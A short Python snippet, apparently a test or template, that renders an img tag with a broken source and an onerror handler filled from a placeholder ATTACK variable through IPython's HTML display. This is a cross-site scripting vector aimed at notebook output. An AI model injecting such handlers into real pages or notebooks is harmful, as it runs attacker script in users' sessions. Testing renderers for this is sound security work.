"""Runs a handler of an image that cannot be loaded."""

from IPython.display import HTML, display

display(HTML(f'<img src="x:" onerror="{ATTACK}">'))
